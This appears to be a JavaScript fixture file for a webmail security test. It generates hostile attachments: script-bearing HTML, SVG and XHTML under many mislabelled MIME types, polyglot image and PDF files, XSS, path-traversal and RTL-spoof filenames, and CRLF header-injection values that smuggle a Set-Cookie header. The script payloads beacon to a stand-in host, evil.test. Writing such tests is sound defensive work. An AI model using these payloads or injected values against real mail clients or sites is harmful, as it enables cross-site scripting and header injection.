// Hostile attachments (W7): markup and scripts under every name and type that browsers or web mails have taken for something
// else. Each tells the tracker its number when it runs; `harm: null` says of one that it does not, and `why` it is here
// (control.test.mjs holds all others to it).

const script = (n) => `fetch("http://evil.test/a${n}/ran")`;
const page = (n) => `<!doctype html><script>${script(n)}</script><img src="http://evil.test/a${n}/i.png">`;
const svg = (n) => `<svg xmlns="http://www.w3.org/2000/svg" onload='${script(n)}'><script>${script(n)}</script></svg>`;
const xhtml = (n) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${script(n)}</script></html>`;
const xslt = (n) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.test/a${n}/x.xsl"?><x/>`;
const css = (n) => `body{background:url(http://evil.test/a${n}/c.png)}`;
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').toString('latin1');
const GIF = 'GIF89a';

const TYPES_OF_PAGES = [
  'text/html', 'TEXT/HTML', 'text/html; charset=utf-7', 'application/xhtml+xml', 'text/xml', 'application/xml', 'text/plain', 'image/png',
  'image/gif', 'image/jpeg', 'image/webp', 'image/avif', 'image/x-icon', 'image/bmp', 'application/octet-stream', 'application/pdf',
  'multipart/related', 'multipart/x-mixed-replace', 'message/rfc822', 'text/rtf', 'text/vcard', 'text/calendar', 'application/x-shockwave-flash',
  'application/json', '*/*', 'text/html/plain', 'x', 'unknown/unknown', 'application/vnd.mozilla.xul+xml', 'text/x-html',
];

const ATTACHMENTS = [
  ...TYPES_OF_PAGES.map((type) => ({ type, body: page, name: 'page.html' })),
  { type: 'image/svg+xml', body: svg, name: 'a.svg' },
  { type: 'image/svg', body: svg, name: 'a.png' },
  { type: 'image/png', body: svg, name: 'a.svg' },
  { type: 'text/xml', body: svg, name: 'a.svgz' },
  { type: 'application/xhtml+xml', body: xhtml, name: 'a.xht' },
  { type: 'application/xml', body: xslt, name: 'a.xml', harm: null, why: 'a style sheet of another host is not fetched by this browser; what is asserted is that nothing tries' },
  { type: 'text/javascript', body: script, name: 'a.js' },
  { type: 'application/javascript', body: script, name: 'a.js' },
  { type: 'application/ecmascript', body: script, name: 'a.png' },
  { type: 'module', body: script, name: 'a.mjs' },
  { type: 'image/png', body: script, name: 'a.png' },
  { type: 'text/plain', body: script, name: 'a.txt' },
  { type: 'text/csv', body: script, name: 'a.csv' },
  { type: 'text/css', body: css, name: 'a.css' },
  { type: 'image/gif', body: css, name: 'a.gif' },
  { type: 'image/png', body: (n) => `${PNG}${page(n)}`, name: 'polyglot.png' },
  { type: 'image/gif', body: (n) => `${GIF}=1;${script(n)}`, name: 'polyglot.gif' },
  { type: 'text/html', body: (n) => `${GIF}${page(n)}`, name: 'polyglot.gif' },
  { type: 'image/jpeg', body: (n) => `\xff\xd8\xff\xe0${page(n)}`, name: 'polyglot.jpg' },
  { type: 'application/pdf', body: (n) => `%PDF-1.4\n${page(n)}`, name: 'a.pdf' },
  { type: 'application/manifest+json', body: () => '{}', name: 'manifest.json', harm: null, why: 'holds nothing that runs; what is asserted is the type that it is given with' },
  { type: 'application/wasm', body: () => '\0asm\x01\0\0\0', name: 'a.wasm', harm: null, why: 'holds nothing that runs; what is asserted is the type that it is given with' },
  { type: 'text/cache-manifest', body: () => 'CACHE MANIFEST', name: 'a.appcache', harm: null, why: 'no browser of today has that cache; what is asserted is the type that it is given with' },
  { type: 'application/x-mimearchive', body: (n) => `From: x\r\nContent-Type: text/html\r\n\r\n${page(n)}`, name: 'a.mht' },
  { type: 'multipart/related', body: (n) => `From: x\r\nContent-Type: text/html\r\n\r\n${page(n)}`, name: 'a.mhtml' },
  { type: 'text/html', body: page, name: '<img src=x onerror=alert(1)>.html' },
  { type: 'text/html', body: page, name: "a';alert(1);'.html" },
  { type: 'text/html', body: page, name: '../../../assets/app.js' },
  { type: 'text/html', body: page, name: 'cod\u202egpj.html' },
  { type: 'text/html', body: page, name: 'CON' },
  { type: 'text/html', body: page, name: '' },
  { type: 'text/html', body: page, name: `${'x'.repeat(900)}.html` },
  { type: 'text/html', body: page, heads: ["Content-Disposition: attachment; filename*0*=utf-8''%3Cscript%3E; filename*1*=%0D%0AX-Own: 1"] },
  { type: 'text/html', body: page, heads: ["Content-Disposition: inline; filename*=utf-8''a%00b%0d%0aSet-Cookie:%20a=b"] },
  { type: 'text/html; name="a\\"b.html"', body: page },
  { type: 'text/html', body: page, heads: ['Content-Location: http://evil.test/base/'] },
  { type: 'image/png\n\tname=x', body: page, name: 'folded.png' },
  { type: 'application/ms-tnef', body: () => '\x78\x9f\x3e\x22' + '\xff'.repeat(400), name: 'winmail.dat', harm: null, why: 'a bomb for who unpacks it, and not for a browser' },
  { type: 'image/png', body: () => Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452ffffffffffffffff', 'hex'), Buffer.alloc(64)]).toString('latin1'), name: 'bomb.png', harm: null, why: 'a bomb for who unpacks it, and not for a browser' },
  { type: 'application/zip', body: () => 'PK\x03\x04', name: 'a.zip', harm: null, why: 'a bomb for who unpacks it, and not for a browser' },
];

/** {number, type, body, name, heads, harm, why} as `multipart` takes them. */
export const attachments = ATTACHMENTS.map((one, number) => ({
  ...one,
  number,
  body: Buffer.from(one.body(number), 'latin1'),
  disposition: one.heads ? undefined : 'attachment',
  harm: one.harm === null ? null : 'runs',
}));
